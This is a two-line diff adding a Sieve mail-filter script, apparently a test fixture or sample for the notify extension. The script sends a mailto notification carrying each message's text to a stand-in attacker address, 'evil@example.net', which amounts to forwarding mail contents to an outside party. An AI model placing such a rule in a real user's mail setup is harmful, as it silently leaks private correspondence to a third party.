@@ -1,0 +1,2 @@
+require "notify";
+notify :method "mailto" :options "evil@example.net" :message "$text$";
